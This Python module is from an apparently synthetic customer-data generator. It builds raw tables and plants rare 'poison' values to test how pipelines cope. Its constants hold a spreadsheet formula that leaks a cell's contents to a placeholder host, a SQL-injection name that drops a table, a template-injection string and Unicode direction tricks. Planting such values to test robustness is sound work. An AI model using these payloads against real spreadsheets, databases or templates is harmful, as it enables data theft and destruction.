"""What the sources of one chunk share: its people, their work, the ledger, and the poison to plant."""

from dataclasses import dataclass
from typing import Any

import numpy as np
import pyarrow as pa

from customer360.demo.companies import Companies, Employment
from customer360.demo.ledger import Dealer, Ledger, repeat_batch
from customer360.demo.membership import Rows
from customer360.demo.people import People
from customer360.demo.profiles import Profile
from customer360.demo.schemas import SCHEMAS
from customer360.demo.text import Days, Numbers, Text, put
from customer360.demo.views import Painter, View
from customer360.demo.world import World

RARE = 1 / 5000
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Premio")'
SQL_NAME = "Robert'); DROP TABLE customers;--"
TEMPLATE = "{{ config }}"
EMOJI = "Lucía 🌻💃"
RIGHT_TO_LEFT = "\u202eنور الهدى"
ZERO_WIDTH = "\u200b"
FAR_FUTURE = np.datetime64("2099-12-31T23:59:59", "us")


@dataclass
class Chunk:
    """One chunk of people and all that is known of them."""

    world: World
    people: People
    companies: Companies
    work: Employment
    rows: dict[str, Rows]
    ledger: Ledger

    def view(self, table: str, profile: Profile) -> View:
        """The records of one table as its source wrote them."""
        rows = self.rows[table]
        return self.painted(table, rows.owner, rows.updated, profile)

    def painted(self, step: str, owner: Numbers, when: Days, profile: Profile) -> View:
        """These people as a source wrote them on these days."""
        return Painter(self.world, self.people, self.work, owner, when, profile, step).view()

    def dealer(self, step: str, size: int) -> Dealer:
        """Rows of one table for traps."""
        return Dealer(self.world.rng(f"traps {step}"), size)

    def quota(self, per_person: float = RARE) -> int:
        """How many traps of a kind to plant here."""
        return self.world.quota(per_person)

    def numbers(self, count: int, start: int, per_person: int) -> Numbers:
        """Ids of this chunk's rows of a table: numbers that no other chunk uses."""
        return start + self.world.first * per_person + np.arange(count)

    def landed(self, table: str, columns: dict[str, Any], repeats: float = 0.0) -> tuple[pa.Table, Numbers]:
        """A raw table in its declared shape, with a batch landed twice; also the rows that were repeated."""
        schema = SCHEMAS[table]
        size = len(next(iter(columns.values())))
        if "_fivetran_synced" in schema.names and "_fivetran_synced" not in columns:
            columns["_fivetran_synced"] = self.synced(table, size)
        arrays = [_column(columns.get(one.name), one.type, size) for one in schema]
        made = pa.Table.from_arrays(arrays, schema=schema)
        if not repeats:
            return made, np.zeros(0, dtype=np.int64)
        return repeat_batch(self.quota(repeats), self.world.rng(f"repeat {table}"), made)

    def synced(self, table: str, size: int) -> Days:
        """When the loader wrote each row: in batches during the night before as_of."""
        rng = self.world.rng(f"synced {table}")
        batch = np.sort(rng.integers(0, 40, size))
        start = self.world.today.astype("datetime64[us]") + np.timedelta64(1, "h")
        moments: Days = start + (batch * 180).astype("timedelta64[s]")
        return moments

    def poison(self, dealer: Dealer, column: Text, name: str, word: str) -> tuple[Text, Numbers]:
        """The column with a poisonous word at a few rows; also which rows."""
        rows = dealer.rows(self.quota())
        return put(column, rows, word), rows


def _column(values: Any, kind: pa.DataType, size: int) -> pa.Array:
    if values is None:
        return pa.nulls(size, kind)
    if isinstance(values, (str, bool, int, float)):
        return pa.repeat(pa.scalar(values, kind), size)
    column = values if isinstance(values, pa.Array) else pa.array(values)
    return column if column.type == kind else column.cast(kind, safe=False)
